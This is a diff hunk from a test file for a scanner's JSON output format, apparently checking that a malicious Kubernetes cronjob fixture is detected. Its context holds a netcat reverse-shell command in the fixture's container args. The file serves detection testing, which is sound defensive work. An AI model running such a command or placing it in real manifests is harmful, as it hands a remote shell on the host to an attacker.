@@ -51,7 +51,7 @@ spec:
           args: ["nc 10.0.0.1 4444 -e /bin/sh"]
 `;
 
-describe('scan --format json (DESIGN contract)', () => {
+describe('scan --format json (the JSON output contract)', () => {
   it('prints results and a summary with exactly the contract fields (plus line)', async () => {
     const { json } = await runJson(['--profile', 'kql', 'reverse-shell-cronjob.yaml']);
     expect(Object.keys(json)).toEqual(['results', 'summary']);
